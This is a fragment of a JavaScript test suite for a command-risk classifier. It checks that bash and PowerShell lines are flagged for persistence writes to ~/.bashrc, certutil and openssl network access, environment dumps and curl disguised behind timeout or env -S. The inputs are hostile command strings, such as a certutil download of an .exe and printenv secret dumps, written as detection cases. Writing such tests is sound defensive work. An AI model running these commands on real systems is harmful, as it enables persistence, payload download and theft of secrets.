    "'x' | Out-File -FilePath ~/.bashrc",
    "'x' | Out-File ~/.bashrc -Append",
    "'x' | Tee-Object -FilePath ~/.bashrc",
    'Copy-Item x -Destination ~/.bashrc',
    'Copy-Item x ~/.bashrc',
    'Move-Item x ~/.bashrc',
    'New-Item -Path ~/.bashrc -ItemType File',
  ]) {
    it(`PowerShell: ${line} writes a persistence target; to notes.txt it does not`, () => {
      expect(pwsh(line)).toBe('write.persistence');
      expect(pwsh(line.replace('~/.bashrc', 'notes.txt'))).toBeUndefined();
    });
  }
});

describe('each option spelling the rules normalise', () => {
  // certutil takes its verbs as -verb or /verb, in any case: each spelling is the same network client.
  for (const verb of ['-urlcache', '/urlcache', '-URLCache', '/URLCACHE', '-verifyctl', '/verifyctl']) {
    it(`certutil ${verb} is a network client; certutil ${verb.replace(/[a-z]+/i, 'hashfile')} is not`, () => {
      expect(bash(`certutil ${verb} -split -f http://example.com/a a.exe`)).toBe('egress.binary');
      expect(pwsh(`certutil ${verb} -split -f http://example.com/a a.exe`)).toBe('egress.binary');
      expect(pwsh(`certutil.exe ${verb} -f http://example.com/a a.exe`)).toBe('egress.binary');
      expect(pwsh(`certutil ${verb.replace(/[a-z]+/i, 'hashfile')} a.exe SHA256`)).toBeUndefined();
    });
  }
  it('openssl s_client, by path too, is a network client; openssl x509 is not', () => {
    expect(bash('openssl s_client -connect example.com:443')).toBe('egress.binary');
    expect(bash('/usr/bin/openssl s_client -connect example.com:443')).toBe('egress.binary');
    expect(pwsh('openssl.exe s_client -connect example.com:443')).toBe('egress.binary');
    expect(bash('openssl x509 -in server.crt -noout -text')).toBeUndefined();
  });
  it('printenv with a name it cannot read prints everything: $X, ${X}, $X $Y; a quoted one any one variable, a literal its own', () => {
    for (const line of ['printenv $X', 'printenv ${X}', 'printenv $X $Y', 'printenv -0 $X', 'printenv -- $X']) expect(bash(line), line).toBe('env.dump');
    // One name the line cannot read may be a secret variable's, as `echo "${!X}"` may print one.
    for (const line of ['printenv "$X"', 'printenv -- "${X}"', 'read -r X; printenv "$X"']) expect(bash(line), line).toBe('env.secret-variable');
    for (const line of ['printenv HOME', 'printenv -- HOME', 'printenv --version', 'X=HOME; printenv "$X"']) expect(bash(line), line).toBeUndefined();
  });
  it('the Env: drive by each parameter spelling: -Path Env:, -Path:Env:, -LiteralPath Env:, positional', () => {
    for (const line of ['Get-ChildItem -Path Env:', 'Get-ChildItem -Path:Env:', 'Get-ChildItem -LiteralPath Env:', 'gci env:', 'Get-Item Env:*', 'dir ENV:\\']) {
      expect(pwsh(line), line).toBe('env.dump');
    }
    for (const line of ['Get-ChildItem -Path Env:PATH', 'Get-ChildItem -Path C:\\env', 'Get-Item env:HOME']) expect(pwsh(line), line).toBeUndefined();
  });
  it('long options by any unambiguous prefix and with =: timeout --signal=KILL, --sig KILL, -s KILL', () => {
    for (const line of ['timeout --signal=KILL 5 curl x', 'timeout --sig KILL 5 curl x', 'timeout --s=KILL 5 curl x', 'timeout -s KILL 5 curl x', 'timeout -sKILL 5 curl x']) {
      expect(bash(line), line).toBe('egress.binary');
    }
  });
  it('env -S and --split-string by each spelling hand their text to the shell reader', () => {
    for (const line of ["env -S 'curl x'", "env -S'curl x'", "env --split-string='curl x'", "env --split-str 'curl x'", "env -iS 'curl x'"]) {
      expect(bash(line), line).toBe('egress.binary');
    }
    expect(bash("env -S 'ls -l'")).toBeUndefined();
  });
});
